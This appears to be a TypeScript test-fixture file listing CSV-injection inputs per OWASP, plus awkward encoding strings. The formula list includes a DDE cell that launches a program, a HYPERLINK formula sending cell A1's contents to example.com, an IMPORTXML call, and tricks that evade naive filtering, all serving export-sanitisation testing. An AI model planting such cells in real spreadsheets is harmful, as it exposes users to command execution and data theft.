// Texts that break the files they are put into, or run in the program that opens them.

/** Cells that a spreadsheet would compute (OWASP, CSV injection), with what stops a naive cure. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.com?"&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=IMPORTXML("http://example.com","//a")',
  '"=1+1"',
  '=1+1\n=2+2',
];

/** Texts that are no formula but hard to write. */
export const AWKWARD: readonly string[] = [
  'a,b;c|d',
  '他说“好”',
  'a "b" ""c""',
  'line\nfeed',
  '<b>&amp;</b>',
  "'quoted'",
  '_x0041_ and _x000D_',
  '𠮷野家 👍🏽',
  ' spaces around ',
  '1e5',
  '007',
  'TRUE',
  '2021-01-01',
];
